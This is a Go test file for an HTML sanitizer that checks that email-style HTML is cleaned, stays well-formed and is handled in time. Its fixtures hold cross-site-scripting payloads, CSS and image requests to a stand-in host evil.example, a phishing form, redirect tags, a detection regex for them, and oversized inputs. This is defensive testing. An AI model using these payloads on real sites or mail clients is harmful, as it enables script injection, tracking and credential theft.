package htmlsafe

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

func Test_dangerous_html_is_made_harmless(t *testing.T) {
	t.Parallel()
	forbidden := regexp.MustCompile(`(?i)<(script|style|iframe|object|embed|form|input|svg|math|link|meta|base|video|audio)|\son\w+\s*=|javascript:|vbscript:|style\s*=|srcset|background\s*=|https?://evil[^"]*"[^>]*src|src="(?:https?:)?//`)
	for name, in := range map[string]string{
		"script":                     `<script>alert(1)</script>hej`,
		"handler":                    `<img src="cid:a" onerror=alert(1)>hej`,
		"nested_tags":                `<scr<script>ipt>alert(1)</scr</script>ipt>hej`,
		"svg_with_style":             `<svg><style><img src=x onerror=alert(1)></style></svg>hej`,
		"math_confusion":             `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">hej`,
		"css_exfiltration":           `<style>@import url(https://evil.example/x)</style><p style="background:url(https://evil.example/y)">hej</p>`,
		"remote_picture":             `<img src="https://evil.example/p.gif" srcset="https://evil.example/2x.gif 2x">hej`,
		"protocol_relative_picture":  `<img src="//evil.example/p.gif">hej`,
		"table_background":           `<table background="https://evil.example/b.png"><tr><td>hej</td></tr></table>`,
		"script_address":             `<a href="javascript:alert(1)">hej</a><a href=" java&#x09;script:alert(1)">x</a>`,
		"html_in_data_address":       `<a href="data:text/html;base64,PHNjcmlwdD4=">hej</a>`,
		"svg_in_data_picture":        `<img src="data:image/svg+xml;base64,PHN2Zz4=">hej`,
		"form_that_asks_for_a_login": `<form action="https://evil.example"><input name=pw></form>hej`,
		"base_and_refresh":           `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">hej`,
		"conditional_comment":        `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->hej`,
		"unfinished_tag":             `hej <img src="cid:x" onerror="alert(1)`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := Clean(in)
			if m := forbidden.FindString(got.HTML); m != "" {
				t.Errorf("%q is left in %q", m, got.HTML)
			}
			if !strings.Contains(got.Text, "hej") {
				t.Errorf("the text is lost: %q of %q", got.Text, got.HTML)
			}
		})
	}
}

func Test_links_do_not_tell_where_the_reader_comes_from(t *testing.T) {
	t.Parallel()
	got := Clean(`<a href="https://kommun.example/?a=1&amp;b=2" onclick=x() target=_top>länk</a>`).HTML
	for _, want := range []string{`href="https://kommun.example/?a=1&amp;b=2"`, "nofollow", "noreferrer", "noopener"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is missing in %s", want, got)
		}
	}
}

func Test_pictures_in_the_mail_become_addresses_of_ours(t *testing.T) {
	t.Parallel()
	got := Clean(`<p>Se bild <img src="cid:bild1@example" width=10 alt="Felruta"><img src=cid:borta alt="Logga"><img src="https://x.example/t.gif">`)
	if len(got.CIDs) != 2 || got.CIDs[0] != "bild1@example" || got.Remote != 1 {
		t.Fatalf("got %q, %d remote", got.CIDs, got.Remote)
	}
	page := ResolveCIDs(got.HTML, func(cid string) (string, bool) { return "/attachments/7", cid == "bild1@example" })
	if !strings.Contains(page, `src="/attachments/7"`) || strings.Contains(page, "cid:") || !strings.Contains(page, `alt="Logga"`) {
		t.Errorf("got %s", page)
	}
}

func Test_foreign_html_cannot_close_elements_of_the_page(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"stray_end_tags":          `</div></section></main>hej</td></tr></table></li></p>`,
		"items_without_a_list":    `<li>hej<li>du</li></li></li>`,
		"unclosed":                `<div><table><tr><td><b>hej`,
		"crossed":                 `<b><i>hej</b></i><div><p></div></p>`,
		"cells_without_a_table":   `<td>hej</td></div>`,
		"links_in_links":          `<a href="https://a.example">x<div><a href="https://b.example">hej</a></div></a>`,
		"end_tags_in_a_cell":      `<div><table><tr><td></div></div>hej</td></tr></table></div>`,
		"paragraphs_in_headings":  `<h1><p>hej</h1></p><h2>x<h3>y`,
		"lists_without_end_tags":  `<ul><li>a<li>b<ul><li>hej</ul><li>d</ul>`,
		"tables_without_end_tags": `<table><tr><td>a<td>hej<tr><td>c</table>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			clean := Clean(in)
			if !strings.Contains(clean.Text, "hej") {
				t.Errorf("the text is lost in %q", clean.HTML)
			}
			// A browser that reads the result inside a list item of ours must leave that item as it was.
			page := `<html><head></head><body><ol><li><article>` + clean.HTML + `</article><i>after</i></li></ol></body></html>`
			doc, err := html.Parse(strings.NewReader(page))
			if err != nil {
				t.Fatal(err)
			}
			if at := pathOf(doc, "after"); at != "html body ol li i" {
				t.Errorf("the page's own element is now at %q: %s", at, clean.HTML)
			}
		})
	}
}

func pathOf(n *html.Node, text string) string {
	if n.Type == html.TextNode && n.Data == text {
		var path []string
		for p := n.Parent; p != nil && p.Type == html.ElementNode; p = p.Parent {
			path = append([]string{p.Data}, path...)
		}
		return strings.Join(path, " ")
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if p := pathOf(c, text); p != "" {
			return p
		}
	}
	return ""
}

func Test_headings_leave_the_outline_of_the_page_alone(t *testing.T) {
	t.Parallel()
	if got := Clean(`<h1>Viktigt</h1>text`).HTML; got != "<p><strong>Viktigt</strong></p>text" {
		t.Errorf("got %s", got)
	}
}

func Test_hostile_sizes_end_in_time(t *testing.T) {
	t.Parallel()
	for name, in := range map[string]string{
		"a_million_divs":         strings.Repeat("<div>", 400_000) + "hej",
		"fonts_and_paragraphs":   strings.Repeat(`<b title=x><i>`, 60_000) + strings.Repeat("<p>hej", 60_000),
		"quotes_in_quotes":       strings.Repeat("<blockquote>", 150_000) + "hej",
		"tables_in_tables":       strings.Repeat("<table><tr><td>", 100_000) + "hej",
		"more_than_is_cleaned":   strings.Repeat("<p>hej du glade</p>", 300_000),
		"one_word_of_a_megabyte": strings.Repeat("x", 3<<20),
		"items_without_end":      "<ul>" + strings.Repeat("<li>hej", 200_000),
		"entities":               strings.Repeat("&NotNestedGreaterGreater;", 80_000),
	} {
		t.Run(name, func(t *testing.T) {
			done := make(chan Cleaned, 1)
			go func() { done <- Clean(in) }()
			select {
			case got := <-done:
				if len(got.Text) > MaxText || len(got.HTML) > 4*MaxHTML {
					t.Errorf("%d bytes of text, %d of html", len(got.Text), len(got.HTML))
				}
				if len(in) > MaxHTML && (got.HTML != "" || !got.Cut) {
					t.Error("what is too large must be told as cut")
				}
				if got.Text == "" {
					t.Error("nothing is left to read")
				}
			case <-time.After(20 * time.Second):
				t.Fatal("not done after 20 s")
			}
		})
	}
}
